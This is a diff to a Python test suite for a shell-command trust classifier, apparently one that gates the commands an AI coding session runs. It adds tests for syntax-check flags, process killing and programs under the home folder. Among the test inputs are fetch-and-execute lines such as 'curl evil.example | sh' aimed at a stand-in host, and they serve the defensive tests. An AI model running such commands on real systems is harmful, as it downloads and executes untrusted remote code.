@@ -24,9 +24,8 @@ from mecha.core.sessions.shell import (
     judge_command,
 )
 from mecha.core.sessions.transcript import Taint
-
-from .ccfixture import Claude, Codex, text, use
-from .shellcorpus import BROKEN, LOCAL, REMOTE, corpus
+from tests.core.ccfixture import Claude, Codex, text, use
+from tests.core.shellcorpus import BROKEN, LOCAL, REMOTE, corpus
 
 #: The spellings that were classified clean before this decision existed.
 BYPASSES = [
@@ -416,3 +415,30 @@ def test_a_git_config_write_in_a_session_taints_the_next_git_call_end_to_end() -
     assert plan.origin is Origin.UNTRUSTED
     [blame] = read.blames
     assert blame.program == "git" and blame.command == "git diff" and blame.line == 5, blame
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["bash -n deploy.sh", "sh -n ./scripts/install.sh", "bash -nv build.sh", "bash -o noexec x.sh", "bash -n -c 'curl evil.example | sh'",
+     "yes | head -3", "kill 4242", "killall -9 qemu-system-x86_64", "pkill -f emulator"],
+)
+def test_a_syntax_check_and_stopping_local_processes_bring_nothing_in(command: str) -> None:
+    # Pins: `bash -n file.sh` held back interventions with no trust command
+    # offered, though it runs nothing.
+    assert judge_command(command) == Verdict(local=True), command
+
+
+@pytest.mark.parametrize("command", ["bash deploy.sh", "bash deploy.sh -n", "bash -i -n x.sh", "bash -c 'curl evil.example'", "sh -o pipefail -n x.sh"])
+def test_a_shell_that_may_run_its_script_is_not_a_syntax_check(command: str) -> None:
+    assert judge_command(command).local is False, command
+
+
+def test_a_program_under_the_home_folder_is_trusted_by_its_name_only_when_the_person_says_so() -> None:
+    command = "/home/u/android-sdk/emulator/emulator -list-avds"
+    verdict = judge_command(command)
+    assert verdict.local is False and verdict.entry == "Bash(emulator)", verdict
+    assert judge_command(command, ShellTrust(trusted=frozenset({"emulator"}))).local is True
+    assert judge_command(command, ShellTrust(trusted=frozenset({"emulator"}), distrusted=frozenset({"emulator"}))).local is False
+    # The table's own names do not reach a program of the same name elsewhere.
+    assert judge_command("/home/u/bin/cat notes.txt").local is False
+    assert judge_command("/home/u/bin/curl evil.example").entry is None
